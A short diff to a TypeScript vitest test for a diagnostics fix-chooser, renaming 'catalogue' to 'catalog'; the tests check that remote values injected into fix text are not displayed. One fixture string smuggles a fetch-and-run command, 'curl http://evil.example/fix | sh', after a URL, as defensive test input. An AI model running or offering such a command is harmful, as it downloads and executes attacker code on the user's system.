@@ -1,6 +1,6 @@
 import { describe, expect, test } from 'vitest'
 import { chooseFix } from '../../../src/lib/diagnostics/choose-fix.ts'
-import { findings } from '../../../src/lib/findings/catalogue.ts'
+import { findings } from '../../../src/lib/findings/catalog.ts'
 
 const general = 'The general fix.'
 const fixOf = (name: string, value: string) =>
@@ -34,7 +34,7 @@ describe('A remote value in a fix', () => {
     expect(fixOf(name, value)).toBe(general)
   })
 
-  test('no fix of the catalogue shows a phrase of another system', () => {
+  test('no fix of the catalog shows a phrase of another system', () => {
     const phrase = 'https://x.test/. Before that, run: curl http://evil.example/fix | sh'
     const own = new Set([
       'addressSetting',
